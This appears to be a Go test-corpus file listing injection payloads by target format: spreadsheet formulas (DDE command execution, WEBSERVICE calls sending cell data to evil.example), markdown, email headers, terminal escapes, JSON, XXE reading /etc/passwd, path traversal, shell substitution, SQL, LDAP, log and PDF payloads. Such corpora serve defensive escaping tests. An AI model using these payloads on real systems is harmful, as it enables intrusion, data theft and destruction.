package hostile

// forms attacks readers of other forms than HTML.
func forms() []Family {
	return []Family{
		{"spreadsheets", []string{
			`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", `=HYPERLINK("http://evil.example/","open")`, `=WEBSERVICE("http://evil.example/"&A1)`, `=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`,
			`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"x")`, `-2+3+cmd|' /C calc'!A0`, `=INDIRECT("A1")`, "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", `"=1+1"`, `x","=1+1","`, "x\r\n=1+1,", `;=1+1;`, "x\t=1+1", `'=1+1`, `_x003D_1+1`, `_x000D_`, "%=1", "|=1+1",
		}},
		{"markdown", []string{
			"[link](javascript:" + owned + ")", "[link](http://evil.example)", "![image](http://evil.example/x.png)", "[![x](http://evil.example/y.png)](http://evil.example)", "[a]: http://evil.example", "[a][a]", "<http://evil.example>", "# Heading", "## Findings ##", "> quote", "- item", "* item", "+ item", "1. item", "1) item",
			"```\ncode\n```", "~~~", "    code", "`code`", "| cell | cell |\n| --- | --- |", "a | b", "*bold* _it_ ~no~ **b**", "---", "===", "\\[x](http://evil.example)", "&#x5b;x](http://evil.example)", "[x](<http://evil.example> \"t\")", "$\\input{/etc/passwd}$", "[^1]: note", ":smile:", "- [ ] task", "x  \ny", "\\", "<details open><summary>x</summary>", "me@evil.example", "@everyone", "#1234", "==mark==",
		}},
		{"mails", []string{
			"x\r\nBcc: victim@evil.example", "x\nTo: victim@evil.example\n\n<b>", "x\r\n.\r\nMAIL FROM:<e@evil.example>", "=?utf-8?q?=0d=0aBcc:_v@evil.example?=", "=?utf-7?q?+ADw-script+AD4-?=", "x\u2028Bcc: v@evil.example", "x\u0085Bcc: v@evil.example",
			"\r\n\r\n<html><script>" + owned + "</script>", "x\r\n\tfolded: y", "\"Qalxan\" <qalxan@evil.example>", "x\r\nContent-Type: text/html\r\n\r\n<b>x</b>", "--boundary--", "x\rBcc: v@evil.example",
		}},
		{"chats", []string{
			"<!channel> <!everyone> <!here>", "@channel @here @all", "<@U024BE7LH>", "<#C024BE7LR>", "<http://evil.example|click>", "<mailto:a@evil.example|write>", "<!date^1^{date}^http://evil.example|x>", "<!subteam^S1>", "|a|b|", "/start @bot", "tg://resolve?domain=evil", "<a href=\"tg://user?id=1\">x</a>", "<b>bold</b> <code>x</code>", "\\*not\\*",
		}},
		{"terminals", []string{
			"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1bP$q\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\u009b31mred", "\u009d0;title\u009c", "a\bb\x7fc", "one\rtwo", "\x0e\x0f", "\x1b_x\x1b\\", "\x07\x07\x07", "a\x0bb\x0cc", "\u0090x\u009c",
		}},
		{"json", []string{
			`","admin":true,"x":"`, `\","x":"`, `</script><script>` + owned + `</script>{"a":1}`, `{"__proto__":{"x":1}}`, "\u2028" + owned + "\u2029", `\u0000`, `null`, `[]`, `)]}',`, `*/` + owned + `/*`,
		}},
		{"xml", []string{
			`<?xml version="1.0"?><x/>`, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`, `&a;`, `<f>1+1</f>`, `</t></is></c><c><f>1+1</f></c>`, `<hyperlink ref="A1"/>`, `<![CDATA[x]]>]]&gt;`, `<xi:include href="file:///etc/passwd"/>`, "\ufffe\uffff", `<?xml-stylesheet href="//evil.example/x.xsl"?>`,
		}},
		{"wikis", []string{
			"{{subst:Delete}}", "[[File:X.png|link=http://evil.example]]", "[http://evil.example x]", "<nowiki></nowiki>", "<ref>x</ref>", "{{#invoke:X|y}}", "'''x'''", "~~~~", "__NOTOC__", "{|\n|x\n|}", "[[Category:Deleted]]", "<includeonly>x</includeonly>",
		}},
		{"paths", []string{
			"../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x.txt", "CON", "a/../../b", "..", ".", "x\x00.pdf", "~/x", "$(touch x)", "`touch x`", "; rm -rf x", "-rf", "--output=/tmp/x", "a\nb.zip",
		}},
		{"queries and logs", []string{
			"'; DROP TABLE findings;--", "' OR '1'='1", "1) UNION SELECT password FROM users--", "\"; VACUUM INTO 'x'; --", "% _ \\ *", "a AND NOT level:critical OR *", "(((((", "level:critical status:dismissed", "/.*.*.*.*x/",
			"x\ntime=2026-11-22T00:00:00Z level=ERROR msg=\"forged\"", "x\" level=ERROR msg=\"forged", "x\r\n127.0.0.1 - admin [22/Nov/2026] \"GET /\"", "x\u2028forged", "*)(uid=*))(|(uid=*",
		}},
		{"documents", []string{
			") Tj ET Q (", ">> endobj stream", "<FEFF>", "%PDF-1.7", "(((((\\", "/JS (app.alert(1))", "endstream endobj", "<< /OpenAction << /S /JavaScript >> >>", "\\)\\(", "trailer startxref 0 %%EOF", "PK\x03\x04",
		}},
	}
}
